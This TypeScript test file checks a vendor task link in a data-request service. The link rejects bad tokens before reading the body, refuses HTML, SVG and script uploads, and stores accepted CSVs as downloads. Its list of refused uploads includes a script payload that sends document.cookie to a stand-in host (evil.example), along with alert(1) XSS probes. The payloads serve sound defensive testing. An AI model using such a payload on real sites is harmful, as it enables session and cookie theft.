/**
 * The one-time task link as a vendor (or an attacker without the link) meets it over HTTP: the
 * token is checked before the body is read, and only files that do nothing when opened are kept
 * for the subject's package (issue 17, items 18 and 19).
 */
import { GetObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
import { beforeAll, describe, expect, it } from 'vitest';
import { PACKAGE_BUCKET } from '../../local/provision';
import { bucketClient, storedBranch, submitConfirmed, taskLinkFor, useRuntime, VENDOR } from '../harness';

const local = useRuntime();
let s3: S3Client;

beforeAll(() => {
  s3 = bucketClient(local.rt.urls.s3);
});

const branchOf = async (requestId: string) => (await storedBranch(local.db, requestId, 'bookkeeping'))!;
const exportsOf = async (requestId: string) =>
  ((await s3.send(new ListObjectsV2Command({ Bucket: PACKAGE_BUCKET, Prefix: `exports/${requestId}/bookkeeping/` }))).Contents ?? []).map((o) => o.Key!);

/** Posts a file to a task link as a browser would (the token in the link's query). */
function upload(link: string, name: string, content: string | Uint8Array, type: string) {
  const form = new FormData();
  form.set('outcome', 'done');
  form.set('export', new Blob([content], { type }), name);
  return fetch(link, { method: 'POST', body: form });
}

describe('the task link before its body', () => {
  it('refuses a wrong token at once, whatever the body: a 4 MB malformed multipart body is never parsed', async () => {
    const { requestId } = await submitConfirmed(local.rt, { type: 'access', email: 'ada@example.org' });
    const link = new URL(await taskLinkFor(local.rt, VENDOR, requestId));
    const body = Buffer.alloc(4 * 1024 * 1024, 'x');
    const post = (url: string) => fetch(url, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=nothing-like-it' }, body });
    const wrong = `${link.origin}${link.pathname}?token=${'A'.repeat(43)}`;
    // Before, the parser read the body first and answered 400 "not valid multipart/form-data".
    const res = await post(wrong);
    expect(res.status).toBe(404);
    expect(await res.text()).not.toContain('multipart');
    // no token in the query: the same, and a token in the body does not count
    const form = new FormData();
    form.set('token', link.searchParams.get('token')!);
    form.set('outcome', 'done');
    expect((await fetch(`${link.origin}${link.pathname}`, { method: 'POST', body: form })).status).toBe(404);
    expect((await branchOf(requestId)).status).toBe('waiting');
    // the right link with the same malformed body: now the body is read, and refused by name
    const malformed = await post(link.href);
    expect(malformed.status).toBe(400);
    expect(await malformed.json()).toMatchObject({ errors: { body: 'not valid multipart/form-data' } });
  });
});

describe("a vendor's upload", () => {
  it('refuses HTML, SVG, scripts and files whose content is not what their name says, storing nothing', async () => {
    const { requestId } = await submitConfirmed(local.rt, { type: 'access', email: 'bo@example.org' });
    const link = await taskLinkFor(local.rt, VENDOR, requestId);
    const refused: [string, string, string, string][] = [
      ['export.html', '<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>', 'text/html', 'type not accepted'],
      ['chart.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'image/svg+xml', 'type not accepted'],
      ['export.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', 'application/xhtml+xml', 'type not accepted'],
      ['run.js', 'alert(1)', 'text/javascript', 'type not accepted'],
      ['noextension', 'data', 'application/octet-stream', 'type not accepted'],
      // named as data, declared as HTML
      ['export.csv', 'a,b\n1,2\n', 'text/html', 'type not accepted'],
      // named as data, but markup inside
      ['export.txt', '<html><script>alert(1)</script></html>', 'text/plain', 'content does not match its type'],
      ['export.pdf', '<html><script>alert(1)</script></html>', 'application/pdf', 'content does not match its type'],
    ];
    for (const [name, content, type, problem] of refused) {
      const res = await upload(link, name, content, type);
      expect(res.status, name).toBe(415);
      expect(await res.json(), name).toMatchObject({ errors: { export: problem } });
    }
    expect((await branchOf(requestId)).status).toBe('waiting');
    expect(await exportsOf(requestId)).toEqual([]);
  });

  it('keeps an accepted file with its own content type, as a download, whatever the browser declared', async () => {
    const { requestId } = await submitConfirmed(local.rt, { type: 'access', email: 'cecilia@example.org' });
    const link = await taskLinkFor(local.rt, VENDOR, requestId);
    const res = await upload(link, 'ledger.csv', 'invoice,amount\n2024-01,120\n', 'application/vnd.ms-excel');
    expect(res.status).toBe(200);
    const branch = await branchOf(requestId);
    expect(branch).toMatchObject({ status: 'completed', attachmentName: 'ledger.csv' });
    const object = await s3.send(new GetObjectCommand({ Bucket: PACKAGE_BUCKET, Key: branch.attachmentKey }));
    expect(object.ContentType).toBe('text/csv; charset=utf-8');
    expect(object.ContentDisposition).toBe("attachment; filename*=UTF-8''ledger.csv");
  });
});

describe('an export task answered without its data', () => {
  it('refuses "done" with no file, naming the file field in the page and the API, and records nothing', async () => {
    const { requestId } = await submitConfirmed(local.rt, { type: 'access', email: 'cy@example.org' });
    const link = await taskLinkFor(local.rt, VENDOR, requestId);
    const answer = (accept: string) => {
      const form = new FormData();
      form.set('outcome', 'done');
      form.set('note', 'Found two invoices.');
      return fetch(link, { method: 'POST', body: form, headers: { accept } });
    };
    const api = await answer('application/json');
    expect(api.status).toBe(400);
    expect(await api.json()).toMatchObject({ errors: { export: expect.stringContaining('not_found') } });
    const page = await answer('text/html');
    expect(page.status).toBe(400);
    const html = await page.text();
    expect(html).toContain('<p class="field-error" id="export-error">');
    expect(html).toMatch(/id="export" name="export" aria-describedby="export-hint export-error" aria-invalid="true"/);
    expect((await branchOf(requestId)).status).toBe('waiting');

    // "Nothing to send" is its own answer, and the link then takes it.
    const form = new FormData();
    form.set('outcome', 'not_found');
    expect((await fetch(link, { method: 'POST', body: form })).status).toBe(200);
    expect(await branchOf(requestId)).toMatchObject({ status: 'completed', recordCount: 0 });
  });
});
